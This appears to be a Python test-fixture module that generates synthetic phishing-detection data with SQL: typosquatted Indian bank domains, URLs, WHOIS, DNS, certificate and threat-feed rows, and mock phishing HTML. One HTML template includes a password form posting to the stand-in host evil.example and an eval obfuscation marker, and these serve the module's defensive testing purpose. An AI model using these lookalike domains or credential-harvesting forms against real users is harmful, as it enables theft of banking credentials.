"""Test inputs derived from the star-schema tables by SQL text that Spark and DuckDB both run."""

from __future__ import annotations

import uuid

from pyspark.sql import DataFrame, SparkSession

from ..operators.spread import spread

TABLES = ("region", "nation", "customer", "supplier", "part", "orders", "lineitem", "events", "documents", "embeddings", "pages", "benchmark", "labels", "conversations")

_DOMAINS = """
SELECT k,
  concat(split_part('|www.|m.|secure.|sbi.portal.', '|', CAST(k % 5 + 1 AS INT)),
         CASE CAST(k % 3 AS INT)
           WHEN 0 THEN split_part('sbi|hdfc|icici|pnb|irctc|airtel|uidai|nic|bob|iocl', '|', CAST(k % 10 + 1 AS INT))
           WHEN 1 THEN split_part('sbl|hdffc|icicl|pnbb|irctcc|alrtel|uldai|n1c|b0b|i0cl', '|', CAST(k % 10 + 1 AS INT))
           ELSE split_part('shop|news|tools|garden|music|travel|photos|books|games|recipes', '|', CAST(k % 10 + 1 AS INT)) END,
         split_part('-login|-secure|-verify||-update|banking|-kyc|-support', '|', CAST(k % 8 + 1 AS INT)),
         CASE WHEN k % 4 = 0 THEN CAST(k AS VARCHAR(20)) WHEN k % 13 = 0 THEN '1119' ELSE '' END,
         '.', split_part('com|xyz|in|top|org|co.in|buzz', '|', CAST(k % 7 + 1 AS INT))) AS domain
FROM (SELECT c_custkey AS k FROM customer) t
"""

SQL = {
    "domains": _DOMAINS,
    "urls": f"""
SELECT k, domain, concat(CASE WHEN k % 2 = 0 THEN 'https://' ELSE 'http://' END, CASE WHEN k % 11 = 0 THEN 'user:pw@' ELSE '' END, domain,
  split_part('/|/sbi/kyc?x=1|:8080/a|/Login/Verify#top|', '|', CAST(k % 5 + 1 AS INT))) AS url
FROM ({_DOMAINS}) d""",
    "scores": """
SELECT l_orderkey * 10 + l_linenumber AS k, l_discount * 10 AS xgb, l_tax * 12 AS rf, l_returnflag = 'R' AS y, l_quantity > 25 AS has_shot,
  l_quantity > 40 AS pw, l_extendedprice > 30000 AS form, l_linestatus = 'O' AS fav, l_suppkey % 3 = 0 AS ext, l_partkey % 5 = 0 AS redir, l_partkey % 7 = 0 AS obf, l_suppkey % 4 = 0 AS copyr
FROM lineitem""",
    "scans": f"""
SELECT o_orderkey AS id, domain, CASE o_orderstatus WHEN 'F' THEN 'Phishing' WHEN 'P' THEN 'Suspected' ELSE 'Clean' END AS label,
  o_totalprice / 1000000 AS confidence, o_orderdate AS scan_date, CAST(o_orderkey % 3 AS INT) AS source
FROM orders JOIN ({_DOMAINS}) d ON o_custkey = k""",
    "labelled": f"""
SELECT k, CASE WHEN k % 6 = 0 THEN upper(domain) WHEN k % 6 = 1 THEN concat(' ', domain, ' ') WHEN k % 6 = 2 THEN concat('http://', domain, ':8080/x') WHEN k % 6 = 3 THEN concat('www.', domain) WHEN k % 6 = 4 THEN concat(domain, '.') ELSE domain END AS raw,
  split_part('Phishing|phishing |LEGIT|Suspicious|benign|unknown|Phishing/Suspected|safe', '|', CAST(k % 8 + 1 AS INT)) AS raw_label,
  split_part('workbook|mock_a|mock_b|feed|list', '|', CAST(k % 5 + 1 AS INT)) AS source, CAST(k % 5 AS INT) AS prio
FROM ({_DOMAINS}) d""",
    "whois": f"""
SELECT k, domain, CASE WHEN k % 9 = 0 THEN NULL ELSE split_part('NameCheap|GoDaddy.com, LLC|Ionos SE|Tucows Domains, Inc.|Google Domains|Some Registrar|PDR Ltd', '|', CAST(k % 7 + 1 AS INT)) END AS registrar,
  CASE WHEN k % 10 = 3 THEN NULL ELSE o END AS created, CASE WHEN k % 4 = 1 THEN 'REDACTED FOR PRIVACY' WHEN k % 4 = 2 THEN 'WhoisGuard Protected' WHEN k % 4 = 3 THEN NULL ELSE 'Jane Doe' END AS org,
  split_part('India|United States|United Kingdom|Germany|France|Nowhere', '|', CAST(k % 6 + 1 AS INT)) AS country
FROM ({_DOMAINS}) d LEFT JOIN (SELECT o_custkey, min(o_orderdate) AS o FROM orders GROUP BY o_custkey) f ON k = o_custkey""",
    "dns": f"""
SELECT k, domain, split_part('IN|US|GB|DE|JP|FR|ZZ|', '|', CAST(k % 8 + 1 AS INT)) AS country, CASE WHEN k % 3 = 0 THEN NULL WHEN k % 3 = 1 THEN '' ELSE 'mx1;mx2' END AS mx,
  CASE WHEN k % 4 = 0 THEN NULL ELSE split_part('ns1|ns1;ns2|ns1;ns2;ns3', '|', CAST(k % 3 + 1 AS INT)) END AS ns, CASE WHEN k % 5 = 0 THEN 'v=spf1 -all' ELSE 'txt' END AS txt, CASE WHEN k % 2 = 0 THEN 'SSL: Yes; ok' ELSE 'none' END AS remarks
FROM ({_DOMAINS}) d""",
    "certs": f"""
SELECT k, domain, CASE WHEN k % 4 = 0 THEN domain WHEN k % 4 = 1 THEN concat('*.', domain) WHEN k % 4 = 2 THEN '*.in' ELSE 'other.example' END AS cn,
  CASE WHEN k % 6 = 5 THEN upper(domain) ELSE 'alt.example' END AS san, CASE WHEN k % 3 = 0 THEN 'C=US, O=Let''s Encrypt' ELSE 'O=Acme' END AS issuer,
  CAST('2023-01-01 12:00:00' AS TIMESTAMP) AS not_before
FROM ({_DOMAINS}) d""",
    "html": f"""
SELECT k, domain, concat('<html><head><title>', CASE WHEN k % 2 = 0 THEN 'SBI Login' ELSE 'Welcome' END, '</title>', CASE WHEN k % 3 = 0 THEN '<link rel="shortcut icon" href="/f.ico">' ELSE '' END, '</head><body>',
  CASE WHEN k % 4 = 0 THEN concat('<form action="http://evil.example/p"><input type="password"></form>') WHEN k % 4 = 1 THEN concat('<form action="https://', domain, '/p"><input type="text"></form><input type="password">') ELSE '' END,
  CASE WHEN k % 5 = 0 THEN '<iframe src="x"></iframe><iframe src="y"></iframe>' ELSE '' END, CASE WHEN k % 6 = 0 THEN '<div style="display:none">a</div><p style="color:red; visibility: hidden">b</p>' ELSE '<p style="color:red">b</p>' END,
  CASE WHEN k % 7 = 0 THEN '<script>eval(x)</script>' ELSE '' END, CASE WHEN k % 8 = 0 THEN 'String.fromCharCode(1) <script src="https://cdn.example/a.js"></script>' ELSE '' END, CASE WHEN k % 9 = 0 THEN '<img src="http://', domain, '/i.png"><img src="/j.png">' ELSE '' END,
  CASE WHEN k % 10 = 0 THEN 'Copyright 2024' ELSE '' END, '</body></html>') AS html
FROM ({_DOMAINS}) d""",
    "hashes": """
SELECT k, CASE WHEN k % 17 = 0 THEN 0 WHEN k % 19 = 0 THEN NULL ELSE (k * 2654435761) % 9007199254740993 END AS h1, CASE WHEN k % 23 = 0 THEN 0 ELSE (k * 40503 + 12345) % 4294967291 END AS h2,
  CAST(k % 100 AS DOUBLE) / 100 AS ssim, k % 2 = 0 AS logo, k % 3 = 0 AS form, k % 5 = 0 AS colour, k % 7 = 0 AS layout
FROM (SELECT c_custkey AS k FROM customer) t""",
    "feed": f"""
SELECT k, domain, concat('http://', domain, CASE WHEN k % 3 = 0 THEN ':8080/verify' WHEN k % 3 = 1 THEN '/Login' ELSE '/' END) AS url, CASE WHEN k % 4 = 0 THEN 'no' ELSE 'yes' END AS online,
  split_part('State Bank of India|Other|HDFCBank|Nobody|UIDAI', '|', CAST(k % 5 + 1 AS INT)) AS target, split_part('online|offline|unknown', '|', CAST(k % 3 + 1 AS INT)) AS url_status,
  split_part('malware_download|phishing', '|', CAST(k % 2 + 1 AS INT)) AS threat, split_part('elf|Phishing kit|none|exe', '|', CAST(k % 4 + 1 AS INT)) AS tags
FROM ({_DOMAINS}) d""",
    "screens": """
SELECT k, brand, CASE WHEN n % 5 = 0 THEN 'striped' ELSE split_part('blue|orange|grey', '|', CAST(n % 3 + 1 AS INT)) END AS look,
  10 + a % 20 AS x1, 8 + n % 5 AS y1, 60 + a % 160 AS w1, 20 + n * 2 AS h1, 12 + n AS x2, 100 AS y2, 90 + a % 97 AS w2, 12 + a % 40 AS h2
FROM (SELECT s_suppkey AS k, CAST(s_nationkey AS BIGINT) AS n, CAST(floor(abs(s_acctbal)) AS BIGINT) AS a,
  split_part('State Bank of India (SBI)|ICICI Bank|HDFC Bank|Airtel', '|', CAST(s_suppkey % 4 + 1 AS INT)) AS brand FROM supplier) s""",
    "templates": """
SELECT s_suppkey AS i, concat(split_part('sbi_login_sbi.co.in|state_bank_of_india_sbi|ICICI_bank|irctc_home|nic_portal|bank_of_baroda_bob|hdfc_netbanking|pnb_one|census_home', '|', CAST(s_nationkey % 9 + 1 AS INT)), '_', s_suppkey) AS template
FROM supplier""",
    "jobs": """
SELECT event_id, CAST(ts AS TIMESTAMP) AS ts, user_id, event_type, value FROM events""",
    "monitored": f"""
SELECT k, domain, CAST(CASE WHEN k % 3 = 0 THEN '2024-01-10 00:00:00' ELSE '2024-01-20 00:00:00' END AS TIMESTAMP) AS next_check, CAST(CASE WHEN k % 5 = 0 THEN '2024-01-12 00:00:00' ELSE '2024-04-01 00:00:00' END AS TIMESTAMP) AS end_date,
  split_part('parked|unrelated|lookalike|unknown', '|', CAST(k % 4 + 1 AS INT)) AS previous, split_part('lookalike|parked|unrelated', '|', CAST(k % 3 + 1 AS INT)) AS current_state, k % 2 = 0 AS has_credentials
FROM ({_DOMAINS}) d""",
}
# Spark reads 'html' with the concat of a CASE over several strings written out
SQL["html"] = SQL["html"].replace("""'<img src="http://', domain, '/i.png"><img src="/j.png">'""", """concat('<img src="http://', domain, '/i.png"><img src="/j.png">')""")


def tables(spark: SparkSession, sf_dir: str, *names: str) -> None:
    """Register tables as temporary views."""
    for name in names or ("customer", "orders", "lineitem", "events", "supplier"):
        spark.read.parquet(f"{sf_dir}/{name}.parquet").createOrReplaceTempView(name)


def fixture(spark: SparkSession, sf_dir: str, name: str, dealt: bool = False) -> DataFrame:
    """The rows of an input; dealt: customers are dealt over tasks before rows are made of them, for queries with much work a row."""
    tables(spark, sf_dir)
    if dealt:
        spread(spark.table("customer"), "c_custkey").createOrReplaceTempView("customer")
    return spark.sql(SQL[name])


def pictures(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The screens drawn, 300 by 200: (k, brand, look, image) with two filled rectangles on white or with stripes of four pixels."""
    tables(spark, sf_dir, "supplier")
    paint = "CASE look WHEN 'blue' THEN 'C83C14' WHEN 'orange' THEN '148CF0' ELSE '787878' END"
    white = lambda n: f"repeat('FFFFFF', CAST({n} AS INT))"
    row = lambda x, w, c: f"concat({white(x)}, repeat({c}, CAST({w} AS INT)), {white(f'300 - {x} - {w}')})"
    bars = "repeat(concat(repeat(concat(repeat('000000', 4), repeat('FFFFFF', 4)), 37), repeat('000000', 4)), 200)"
    rows = lambda line, n: f"repeat({line}, CAST({n} AS INT))"
    drawn = ", ".join((rows(white(300), "y1"), rows(row("x1", "w1", paint), "h1"), rows(white(300), "y2 - y1 - h1"), rows(row("x2", "w2", "'323232'"), "h2"), rows(white(300), "200 - y2 - h2")))
    image = f"named_struct('origin', concat(look, '-', CAST(k AS STRING), '.png'), 'height', 200, 'width', 300, 'nChannels', 3, 'mode', 16, 'data', unhex(CASE WHEN look = 'striped' THEN {bars} ELSE concat({drawn}) END))"
    drawn_of = spark.sql(SQL["screens"]).repartition(2 * spark.sparkContext.defaultParallelism, "k")  # numbers; the pictures are drawn where they are read
    return drawn_of.selectExpr("k", "brand", "look", f"{image} AS image")


def exported(df: DataFrame, header: bool = False, text: bool = False) -> str:
    """Write df as CSV (or its only column as text) under the session's shared folder, for the feed readers; the path."""
    spark = df.sparkSession
    where = spark.conf.get("spark.checkpoint.dir", None)
    if not where:
        if not spark.sparkContext.master.startswith("local"):
            raise ValueError("spark.checkpoint.dir must name a folder that the driver and all executors share")
        where = spark.conf.get("spark.sql.warehouse.dir")
    path = f"{where.rstrip('/')}/feed-{uuid.uuid4().hex}"
    if text:
        df.write.text(path)
    else:
        df.write.option("header", header).option("ignoreLeadingWhiteSpace", False).option("ignoreTrailingWhiteSpace", False).csv(path)
    return path
